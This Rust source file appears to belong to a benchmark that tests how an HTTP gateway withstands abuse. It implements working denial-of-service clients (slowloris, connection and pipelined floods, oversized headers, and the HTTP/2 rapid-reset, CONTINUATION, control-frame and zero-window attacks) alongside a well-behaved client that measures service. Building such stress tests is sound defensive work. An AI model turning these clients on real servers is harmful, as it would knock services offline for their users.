//! The abuses, each a blocking std-socket client that runs until `stop` is set, and the
//! well-behaved client that runs beside them. Every loop checks `stop` at least every second;
//! every socket has timeouts, so nothing blocks past the end of an abuse for long.

use std::io::{self, BufRead, BufReader, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use super::frames;
use super::report::Good;

/// The abuses, in the order the benchmark runs them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Abuse {
    Slowloris,
    SlowReader,
    ConnectionFlood,
    PipelinedFlood,
    OversizedHeaders,
    H2RapidReset,
    H2Continuation,
    H2ControlFlood,
    H2ZeroWindow,
    SlowUpload,
}

pub const ALL: [Abuse; 10] = [
    Abuse::Slowloris,
    Abuse::SlowReader,
    Abuse::ConnectionFlood,
    Abuse::PipelinedFlood,
    Abuse::OversizedHeaders,
    Abuse::H2RapidReset,
    Abuse::H2Continuation,
    Abuse::H2ControlFlood,
    Abuse::H2ZeroWindow,
    Abuse::SlowUpload,
];

/// Sizes of the abuses.
#[derive(Debug, Clone, Copy)]
pub struct Scale {
    /// Slowloris connections.
    pub slowloris: usize,
    /// Slow-reader connections.
    pub slow_readers: usize,
    /// The gateway's `max_connections_per_worker`: the flood opens this plus 10%.
    pub connection_limit: usize,
    /// Connections (threads) of the pipelined, oversized-header, HTTP/2 flood and upload abuses.
    pub threads: usize,
    /// HTTP/2 zero-window connections, each with 100 streams.
    pub zero_window_conns: usize,
    /// Upload body size.
    pub upload_bytes: usize,
}

/// What the attacker saw.
#[derive(Debug, Default)]
pub struct Tally {
    pub opened: AtomicU64,
    /// Connections the gateway closed (EOF, reset, a failed write).
    pub closed: AtomicU64,
    /// Requests (or HTTP/2 streams, frames) sent.
    pub sent: AtomicU64,
    /// Responses read.
    pub answered: AtomicU64,
}

impl Tally {
    fn add(counter: &AtomicU64, n: u64) {
        counter.fetch_add(n, Ordering::Relaxed);
    }

    pub fn summary(&self, sent_what: &str) -> String {
        format!(
            "{} connections opened, {} closed by the gateway, {} {sent_what}, {} responses read",
            self.opened.load(Ordering::Relaxed),
            self.closed.load(Ordering::Relaxed),
            self.sent.load(Ordering::Relaxed),
            self.answered.load(Ordering::Relaxed)
        )
    }
}

impl Abuse {
    pub fn name(self) -> &'static str {
        match self {
            Abuse::Slowloris => "slowloris",
            Abuse::SlowReader => "slow reader",
            Abuse::ConnectionFlood => "connection flood",
            Abuse::PipelinedFlood => "pipelined flood",
            Abuse::OversizedHeaders => "oversized headers",
            Abuse::H2RapidReset => "h2 rapid reset",
            Abuse::H2Continuation => "h2 CONTINUATION flood",
            Abuse::H2ControlFlood => "h2 SETTINGS/PING flood",
            Abuse::H2ZeroWindow => "h2 zero-window stall",
            Abuse::SlowUpload => "upload to a slow upstream",
        }
    }

    /// What [`Tally::sent`] counts, for [`Tally::summary`].
    pub fn unit(self) -> &'static str {
        match self {
            Abuse::Slowloris => "header bytes sent",
            Abuse::SlowReader | Abuse::PipelinedFlood | Abuse::OversizedHeaders | Abuse::SlowUpload => "requests sent",
            Abuse::ConnectionFlood => "connects",
            Abuse::H2ZeroWindow => "streams opened",
            // Written into the socket: most are never read, the gateway closes the connection
            // at its limit while the kernel's buffers still hold megabytes of them.
            Abuse::H2RapidReset => "streams written (opened and reset)",
            Abuse::H2Continuation | Abuse::H2ControlFlood => "frames written",
        }
    }

    pub fn describe(self, s: &Scale) -> String {
        match self {
            Abuse::Slowloris => format!("{} connections, each sending a request head one byte per second (reconnecting when closed)", s.slowloris),
            Abuse::SlowReader => format!("{} connections, each asking for a 1 MiB response and reading it at 1 KiB/s (4 KiB receive buffer)", s.slow_readers),
            Abuse::ConnectionFlood => format!("{} idle connections held open (the limit is {} per worker), reopened when closed", s.connection_limit + s.connection_limit / 10, s.connection_limit),
            Abuse::PipelinedFlood => format!("{} connections, each writing 1000 small GETs in one write, then reading the answers, repeatedly", s.threads),
            Abuse::OversizedHeaders => format!("{} connections in a loop, each sending a 100 KiB header field (limit 64 KiB)", s.threads),
            Abuse::H2RapidReset => format!("{} h2c connections, each opening streams (proxied GETs) and resetting them at once, in batches of 50, reconnecting when closed", s.threads),
            Abuse::H2Continuation => format!("{} h2c connections, each sending a HEADERS frame without END_HEADERS followed by endless 4 KiB CONTINUATION frames, reconnecting when closed", s.threads),
            Abuse::H2ControlFlood => format!("{} h2c connections, each writing PING and SETTINGS frames in batches of 100 without reading the ACKs, reconnecting when closed", s.threads),
            Abuse::H2ZeroWindow => format!("{} h2c connections with SETTINGS_INITIAL_WINDOW_SIZE = 0, each opening 100 streams for 1 MiB responses and never sending WINDOW_UPDATE", s.zero_window_conns),
            Abuse::SlowUpload => format!("{} connections, each uploading {} MiB as fast as it can to a route whose upstream reads 64 KiB/s per connection", s.threads, s.upload_bytes >> 20),
        }
    }

    /// Runs the abuse against `addr` until `stop` is set; returns once every socket is closed.
    pub fn run(self, addr: SocketAddr, s: &Scale, stop: &AtomicBool, tally: &Tally) {
        match self {
            Abuse::Slowloris => slowloris(addr, s.slowloris, stop, tally),
            Abuse::SlowReader => slow_readers(addr, s.slow_readers, stop, tally),
            Abuse::ConnectionFlood => flood(addr, s.connection_limit + s.connection_limit / 10, stop, tally),
            Abuse::PipelinedFlood => parallel(s.threads, stop, tally, |st, t| pipelined(addr, st, t)),
            Abuse::OversizedHeaders => parallel(s.threads, stop, tally, |st, t| oversized(addr, st, t)),
            Abuse::H2RapidReset => parallel(s.threads, stop, tally, |st, t| h2_rapid_reset(addr, st, t)),
            Abuse::H2Continuation => parallel(s.threads, stop, tally, |st, t| h2_continuation(addr, st, t)),
            Abuse::H2ControlFlood => parallel(s.threads, stop, tally, |st, t| h2_control_flood(addr, st, t)),
            Abuse::H2ZeroWindow => h2_zero_window(addr, s.zero_window_conns, stop, tally),
            Abuse::SlowUpload => {
                let size = s.upload_bytes;
                parallel(s.threads, stop, tally, |st, t| upload(addr, size, st, t));
            }
        }
    }
}

/// A TCP connection with timeouts and TCP_NODELAY; `rcvbuf` shrinks the receive buffer
/// before connecting (so the window stays small).
fn dial(addr: SocketAddr, rcvbuf: Option<usize>) -> io::Result<TcpStream> {
    let socket = socket2::Socket::new(socket2::Domain::for_address(addr), socket2::Type::STREAM, None)?;
    if let Some(size) = rcvbuf {
        socket.set_recv_buffer_size(size)?;
    }
    socket.connect_timeout(&addr.into(), Duration::from_millis(500))?;
    let stream: TcpStream = socket.into();
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    stream.set_write_timeout(Some(Duration::from_secs(2)))?;
    Ok(stream)
}

/// Runs `n` copies of `f` on their own threads until `stop`.
fn parallel(n: usize, stop: &AtomicBool, tally: &Tally, f: impl Fn(&AtomicBool, &Tally) + Sync) {
    thread::scope(|scope| {
        for _ in 0..n {
            scope.spawn(|| {
                while !stop.load(Ordering::Relaxed) {
                    f(stop, tally);
                }
            });
        }
    });
}

/// Whether the peer closed `s`: reads without blocking what is there (discarding it).
fn peer_closed(s: &mut TcpStream) -> bool {
    let mut buf = [0u8; 4096];
    if s.set_nonblocking(true).is_err() {
        return true;
    }
    let closed = loop {
        match s.read(&mut buf) {
            Ok(0) => break true,
            Ok(_) => continue,
            Err(e) if e.kind() == ErrorKind::WouldBlock => break false,
            Err(e) if e.kind() == ErrorKind::Interrupted => continue,
            Err(_) => break true,
        }
    };
    closed || s.set_nonblocking(false).is_err()
}

/// Keeps `n` connections open (opened with `open`, reopened when the gateway closed them) and
/// calls `tick` on each once a second until `stop`. `tick` returns false when the connection
/// is gone.
fn hold(
    n: usize,
    stop: &AtomicBool,
    tally: &Tally,
    open: impl Fn() -> io::Result<TcpStream>,
    tick: impl Fn(&mut TcpStream) -> bool,
) {
    let mut conns: Vec<Option<TcpStream>> = (0..n).map(|_| None).collect();
    while !stop.load(Ordering::Relaxed) {
        let round = Instant::now();
        for slot in conns.iter_mut() {
            if stop.load(Ordering::Relaxed) {
                break;
            }
            match slot.take() {
                None => {
                    // Opening waits at most the connect timeout; a full backlog fails fast enough.
                    if round.elapsed() < Duration::from_secs(2) {
                        if let Ok(s) = open() {
                            Tally::add(&tally.opened, 1);
                            *slot = Some(s);
                        }
                    }
                }
                Some(mut s) => {
                    if tick(&mut s) {
                        *slot = Some(s);
                    } else {
                        Tally::add(&tally.closed, 1);
                    }
                }
            }
        }
        let rest = Duration::from_secs(1).saturating_sub(round.elapsed());
        sleep_unless(stop, rest);
    }
}

fn sleep_unless(stop: &AtomicBool, d: Duration) {
    let end = Instant::now() + d;
    while !stop.load(Ordering::Relaxed) && Instant::now() < end {
        thread::sleep(Duration::from_millis(20).min(end.saturating_duration_since(Instant::now())));
    }
}

fn slowloris(addr: SocketAddr, n: usize, stop: &AtomicBool, tally: &Tally) {
    let open = || {
        let mut s = dial(addr, None)?;
        s.write_all(b"GET /bytes/10 HTTP/1.1\r\nhost: abuse.test\r\nx-slow: ")?;
        Ok(s)
    };
    hold(n, stop, tally, open, |s| {
        Tally::add(&tally.sent, 1);
        s.set_write_timeout(Some(Duration::from_millis(50))).is_ok() && s.write_all(b"a").is_ok() && !peer_closed(s)
    });
}

fn slow_readers(addr: SocketAddr, n: usize, stop: &AtomicBool, tally: &Tally) {
    let open = || {
        let mut s = dial(addr, Some(4096))?;
        s.write_all(b"GET /bytes/1048576 HTTP/1.1\r\nhost: abuse.test\r\n\r\n")?;
        Tally::add(&tally.sent, 1);
        s.set_nonblocking(true)?;
        Ok(s)
    };
    hold(n, stop, tally, open, |s| {
        let mut buf = [0u8; 1024];
        match s.read(&mut buf) {
            Ok(0) => false,
            Ok(_) => true,
            Err(e) => e.kind() == ErrorKind::WouldBlock,
        }
    });
}

fn flood(addr: SocketAddr, n: usize, stop: &AtomicBool, tally: &Tally) {
    let open = || {
        Tally::add(&tally.sent, 1);
        dial(addr, None)
    };
    hold(n, stop, tally, open, |s| !peer_closed(s));
}

/// Counts `needle` in a stream read in pieces (`carry` holds the previous piece's tail).
fn count_in(carry: &mut Vec<u8>, piece: &[u8], needle: &[u8]) -> u64 {
    carry.extend_from_slice(piece);
    let n = carry.windows(needle.len()).filter(|w| *w == needle).count() as u64;
    let keep = needle.len().saturating_sub(1).min(carry.len());
    carry.drain(..carry.len() - keep);
    n
}

fn pipelined(addr: SocketAddr, stop: &AtomicBool, tally: &Tally) {
    let Ok(mut s) = dial(addr, None) else { return sleep_unless(stop, Duration::from_millis(100)) };
    Tally::add(&tally.opened, 1);
    let batch = b"GET / HTTP/1.1\r\nhost: abuse.test\r\n\r\n".repeat(1000);
    let mut buf = vec![0u8; 64 * 1024];
    while !stop.load(Ordering::Relaxed) {
        if s.write_all(&batch).is_err() {
            break;
        }
        Tally::add(&tally.sent, 1000);
        let (mut seen, mut carry) = (0, Vec::new());
        while seen < 1000 && !stop.load(Ordering::Relaxed) {
            match s.read(&mut buf) {
                Ok(0) | Err(_) => {
                    Tally::add(&tally.closed, 1);
                    Tally::add(&tally.answered, seen);
                    return;
                }
                Ok(n) => seen += count_in(&mut carry, buf.get(..n).unwrap_or_default(), b"HTTP/1.1 "),
            }
        }
        Tally::add(&tally.answered, seen);
    }
}

fn oversized(addr: SocketAddr, stop: &AtomicBool, tally: &Tally) {
    let Ok(mut s) = dial(addr, None) else { return sleep_unless(stop, Duration::from_millis(100)) };
    Tally::add(&tally.opened, 1);
    let mut req = b"GET / HTTP/1.1\r\nhost: abuse.test\r\nx-big: ".to_vec();
    req.resize(req.len() + 100 * 1024, b'a');
    req.extend_from_slice(b"\r\n\r\n");
    // The gateway may answer 431 and close before the whole head is written.
    let _ = s.write_all(&req);
    Tally::add(&tally.sent, 1);
    let mut head = [0u8; 12];
    if s.read_exact(&mut head).is_ok() && head.starts_with(b"HTTP/1.1 ") {
        Tally::add(&tally.answered, 1);
    }
    if peer_closed(&mut s) {
        Tally::add(&tally.closed, 1);
    }
}

/// An h2c connection past the handshake: preface and our SETTINGS sent, the gateway's
/// SETTINGS read and acknowledged (counted as opened).
fn h2_connect(addr: SocketAddr, settings: &[(u16, u32)], tally: &Tally) -> io::Result<TcpStream> {
    let s = h2_handshake(addr, settings)?;
    Tally::add(&tally.opened, 1);
    Ok(s)
}

fn h2_handshake(addr: SocketAddr, settings: &[(u16, u32)]) -> io::Result<TcpStream> {
    let mut s = dial(addr, None)?;
    let mut hello = frames::PREFACE.to_vec();
    hello.extend_from_slice(&frames::settings(settings));
    s.write_all(&hello)?;
    let deadline = Instant::now() + Duration::from_secs(2);
    loop {
        let mut h = [0u8; 9];
        s.read_exact(&mut h)?;
        let len = u32::from_be_bytes([0, h[0], h[1], h[2]]) as usize;
        let mut payload = vec![0u8; len];
        s.read_exact(&mut payload)?;
        if h[3] == frames::SETTINGS && h[4] & 1 == 0 {
            s.write_all(&frames::frame(frames::SETTINGS, 1, 0, &[]))?;
            return Ok(s);
        }
        if Instant::now() > deadline {
            return Err(io::Error::new(ErrorKind::TimedOut, "no SETTINGS from the gateway"));
        }
    }
}

/// Writes `batch`; false (and counted) if the gateway closed the connection.
fn send_or_closed(s: &mut TcpStream, batch: &[u8], tally: &Tally) -> bool {
    if s.write_all(batch).is_err() || peer_closed(s) {
        Tally::add(&tally.closed, 1);
        return false;
    }
    true
}

fn h2_rapid_reset(addr: SocketAddr, stop: &AtomicBool, tally: &Tally) {
    let Ok(mut s) = h2_connect(addr, &[], tally) else { return sleep_unless(stop, Duration::from_millis(100)) };
    let block = frames::get_block("/bytes/1000");
    let mut id = 1u32;
    while !stop.load(Ordering::Relaxed) && id < 1 << 30 {
        let mut batch = Vec::new();
        for _ in 0..50 {
            batch.extend_from_slice(&frames::headers(id, &block, true, true));
            batch.extend_from_slice(&frames::rst_stream(id, frames::CANCEL));
            id += 2;
        }
        if !send_or_closed(&mut s, &batch, tally) {
            return;
        }
        Tally::add(&tally.sent, 50);
    }
}

fn h2_continuation(addr: SocketAddr, stop: &AtomicBool, tally: &Tally) {
    let Ok(mut s) = h2_connect(addr, &[], tally) else { return sleep_unless(stop, Duration::from_millis(100)) };
    let first = frames::headers(1, &frames::get_block("/"), true, false);
    if !send_or_closed(&mut s, &first, tally) {
        return;
    }
    let filler = "a".repeat(4000);
    let piece = frames::continuation(1, &frames::hpack_literal(&[("x-filler", &filler)]), false);
    while !stop.load(Ordering::Relaxed) {
        if !send_or_closed(&mut s, &piece, tally) {
            return;
        }
        Tally::add(&tally.sent, 1);
    }
}

fn h2_control_flood(addr: SocketAddr, stop: &AtomicBool, tally: &Tally) {
    let Ok(mut s) = h2_connect(addr, &[], tally) else { return sleep_unless(stop, Duration::from_millis(100)) };
    let mut batch = Vec::new();
    for i in 0..50u8 {
        batch.extend_from_slice(&frames::ping([i; 8]));
        batch.extend_from_slice(&frames::settings(&[]));
    }
    while !stop.load(Ordering::Relaxed) {
        // Written without reading: the ACKs pile up on the gateway's side unless it stops.
        if s.write_all(&batch).is_err() {
            Tally::add(&tally.closed, 1);
            return;
        }
        Tally::add(&tally.sent, 100);
    }
}

fn h2_zero_window(addr: SocketAddr, n: usize, stop: &AtomicBool, tally: &Tally) {
    let open = || {
        let mut s = h2_handshake(addr, &[(frames::SETTINGS_INITIAL_WINDOW_SIZE, 0)])?;
        let block = frames::get_block("/bytes/1048576");
        let mut batch = Vec::new();
        for i in 0..100u32 {
            batch.extend_from_slice(&frames::headers(1 + 2 * i, &block, true, true));
        }
        s.write_all(&batch)?;
        Tally::add(&tally.sent, 100);
        Ok(s)
    };
    hold(n, stop, tally, open, |s| !peer_closed(s));
}

fn upload(addr: SocketAddr, size: usize, stop: &AtomicBool, tally: &Tally) {
    let Ok(mut s) = dial(addr, None) else { return sleep_unless(stop, Duration::from_millis(100)) };
    Tally::add(&tally.opened, 1);
    let head = format!("POST /upload HTTP/1.1\r\nhost: abuse.test\r\ncontent-length: {size}\r\n\r\n");
    if s.write_all(head.as_bytes()).is_err() {
        Tally::add(&tally.closed, 1);
        return;
    }
    Tally::add(&tally.sent, 1);
    let _ = s.set_write_timeout(Some(Duration::from_millis(200)));
    let chunk = vec![b'u'; 64 * 1024];
    let mut left = size;
    while left > 0 && !stop.load(Ordering::Relaxed) {
        match s.write(chunk.get(..left.min(chunk.len())).unwrap_or_default()) {
            Ok(0) => break,
            Ok(n) => left -= n,
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut | ErrorKind::Interrupted) => {}
            Err(_) => {
                Tally::add(&tally.closed, 1);
                return;
            }
        }
    }
    if left == 0 {
        let mut head = [0u8; 12];
        let _ = s.set_read_timeout(Some(Duration::from_secs(20)));
        if s.read_exact(&mut head).is_ok() {
            Tally::add(&tally.answered, 1);
        }
    }
}

/// An upstream that reads request bodies at `rate` bytes per second per connection, then
/// answers 200 `ok`.
pub struct SlowSink {
    pub addr: SocketAddr,
}

impl SlowSink {
    pub fn spawn(rate: usize) -> io::Result<Self> {
        let listener = std::net::TcpListener::bind("127.0.0.1:0")?;
        let addr = listener.local_addr()?;
        thread::Builder::new().name("slow-sink".into()).spawn(move || {
            for conn in listener.incoming().flatten() {
                let _ = thread::Builder::new().name("slow-sink-conn".into()).spawn(move || sink(conn, rate));
            }
        })?;
        Ok(Self { addr })
    }
}

fn sink(conn: TcpStream, rate: usize) {
    let _ = conn.set_read_timeout(Some(Duration::from_secs(60)));
    let mut r = BufReader::with_capacity(1024, conn);
    loop {
        let mut length = 0usize;
        loop {
            let mut line = String::new();
            match r.read_line(&mut line) {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            }
            if line == "\r\n" {
                break;
            }
            if let Some((name, value)) = line.split_once(':') {
                if name.eq_ignore_ascii_case("content-length") {
                    length = value.trim().parse().unwrap_or(0);
                }
            }
        }
        let step = (rate / 10).max(1);
        let mut buf = vec![0u8; step];
        while length > 0 {
            let want = length.min(step);
            if r.read_exact(buf.get_mut(..want).unwrap_or_default()).is_err() {
                return;
            }
            length -= want;
            thread::sleep(Duration::from_millis(100));
        }
        if r.get_mut().write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok").is_err() {
            return;
        }
    }
}

/// GETs `path` on keep-alive connections (reconnecting after a failure), one every 10 ms,
/// until `stop`; counts successes (status 200 and the whole body), failures and the slowest.
pub fn good_client(addr: SocketAddr, path: &str, stop: Arc<AtomicBool>) -> thread::JoinHandle<Good> {
    let request = format!("GET {path} HTTP/1.1\r\nhost: good.test\r\n\r\n");
    thread::spawn(move || {
        let mut good = Good::default();
        let mut conn: Option<BufReader<TcpStream>> = None;
        while !stop.load(Ordering::Relaxed) {
            let started = Instant::now();
            let ok = one_request(&mut conn, addr, request.as_bytes()).is_ok();
            good.worst = good.worst.max(started.elapsed());
            if ok {
                good.ok += 1;
            } else {
                good.failed += 1;
                conn = None;
            }
            thread::sleep(Duration::from_millis(10));
        }
        good
    })
}

fn one_request(conn: &mut Option<BufReader<TcpStream>>, addr: SocketAddr, request: &[u8]) -> io::Result<()> {
    if conn.is_none() {
        let s = TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
        s.set_read_timeout(Some(Duration::from_secs(5)))?;
        s.set_nodelay(true)?;
        *conn = Some(BufReader::new(s));
    }
    let r = conn.as_mut().ok_or_else(|| io::Error::other("no connection"))?;
    r.get_mut().write_all(request)?;
    let mut status = String::new();
    r.read_line(&mut status)?;
    let mut length = 0usize;
    loop {
        let mut line = String::new();
        if r.read_line(&mut line)? == 0 {
            return Err(io::Error::new(ErrorKind::UnexpectedEof, "closed in the head"));
        }
        if line == "\r\n" {
            break;
        }
        if let Some((name, value)) = line.split_once(':') {
            if name.eq_ignore_ascii_case("content-length") {
                length = value.trim().parse().unwrap_or(0);
            }
        }
    }
    let mut body = vec![0u8; length];
    r.read_exact(&mut body)?;
    if status.starts_with("HTTP/1.1 200 ") {
        Ok(())
    } else {
        Err(io::Error::other(status))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn count_in_finds_needles_across_pieces() {
        let mut carry = Vec::new();
        assert_eq!(count_in(&mut carry, b"HTTP/1.1 200 OK\r\n\r\nHTTP/1", b"HTTP/1.1 "), 1);
        assert_eq!(count_in(&mut carry, b".1 200 OK\r\n\r\n", b"HTTP/1.1 "), 1);
        assert_eq!(count_in(&mut carry, b"nothing", b"HTTP/1.1 "), 0);
    }

    #[test]
    fn every_abuse_has_a_name_and_description() {
        let s = Scale {
            slowloris: 1,
            slow_readers: 1,
            connection_limit: 10,
            threads: 1,
            zero_window_conns: 1,
            upload_bytes: 1 << 20,
        };
        for a in ALL {
            assert!(!a.name().is_empty() && !a.describe(&s).is_empty() && !a.unit().is_empty());
        }
        assert!(Abuse::ConnectionFlood.describe(&s).starts_with("11 idle connections"));
    }
}
